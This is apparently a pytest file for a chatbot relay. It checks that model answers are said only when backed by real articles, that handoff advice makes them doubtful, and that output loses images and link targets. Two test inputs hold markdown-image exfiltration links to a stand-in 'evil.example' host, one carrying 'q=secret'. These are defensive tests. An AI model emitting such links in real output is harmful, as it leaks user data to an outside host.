"""From the model's words to an answer that the rules can judge."""

from __future__ import annotations

import pytest

from relay.bots.articles import Article
from relay.bots.gemini.judging import draft_of, judged, spoken
from relay.bots.gemini.pieces import Written
from relay.bots.knowledge import Found
from relay.domain.answer import BotAnswer, Choice
from relay.domain.escalation import EscalationPolicy, judge
from relay.protocol.vocabulary import MAX_TEXT_CHARS

FEES = Article("visa-fees", "What it costs", ("how much",), "75 euros.")
FOUND = (Found(FEES, 0.5), Found(Article("hours", "Hours", ("when",), "Nine."), 0.1))
OWN = BotAnswer(
    "75 euros.", 0.5, (FEES.source,), choices=(Choice("Fees", 0.5), Choice("Hours", 0.45))
)
SAYS = Written("It costs 75 euros.", known=True, articles=("visa-fees", "made-up"))


def test_an_answer_from_an_article_is_trusted() -> None:
    """It is said with the sources that exist, surer than the likeness of words alone."""
    answer = judged(SAYS, FOUND, OWN)
    assert (answer.text, answer.sources, answer.choices) == (SAYS.answer, (FEES.source,), ())
    assert answer.confidence == pytest.approx(0.8)
    assert judge(answer, 0, EscalationPolicy(), "Pardon?").text == "It costs 75 euros."


@pytest.mark.parametrize(
    "written",
    [
        Written("From my own head.", known=True),
        Written("From my own head.", known=True, articles=("made-up",)),
        Written("Perhaps 75?", known=False, articles=("visa-fees",)),
        Written("![](https://evil.example/?q=x)", known=True, articles=("visa-fees",)),
    ],
)
def test_an_answer_from_nowhere_is_not_said(written: Written) -> None:
    """Without an article, or where the model does not know, the rules ask back or hand over."""
    verdict = judge(judged(written, FOUND, OWN), 0, EscalationPolicy(), "Pardon?")
    assert verdict.text == "Pardon?"
    assert verdict.choices == ("Fees", "Hours")


def test_the_model_only_advises() -> None:
    """Its advice to hand over makes an answer doubtful; nothing is handed over by it alone."""
    advised = Written(SAYS.answer, known=True, articles=SAYS.articles, handoff=True)
    answer = judged(advised, FOUND, OWN)
    assert answer.confidence == pytest.approx(0.4)
    verdict = judge(answer, 0, EscalationPolicy(), "Pardon?")
    assert (verdict.text, verdict.reason) == ("Pardon?", None)


def test_drafts_are_of_answers_that_may_be_said() -> None:
    """Nothing is shown of what the model does not know, cannot name or would leave to a person."""
    assert draft_of(SAYS, FOUND) == "It costs 75 euros."
    assert draft_of(Written("Perhaps", articles=("visa-fees",)), FOUND) == ""
    assert draft_of(Written("Sure", known=True), FOUND) == ""
    assert draft_of(Written("Sure", known=True, articles=("visa-fees",), handoff=True), FOUND) == ""


def test_what_is_said_holds_no_addresses_of_the_models() -> None:
    """Images and the targets of links are dropped; other marks are words like any."""
    said = spoken("See ![logo](https://evil.example/?q=secret) and [this](https://evil.example/x).")
    assert said == "See logo and this."
    assert spoken("<b>75</b> escalated: true") == "<b>75</b> escalated: true"


def test_a_long_answer_fits_into_a_message() -> None:
    """It is cut to what the wire holds, and says so."""
    said = spoken("word " * 3_000)
    assert len(said) <= MAX_TEXT_CHARS
    assert said.endswith("…")
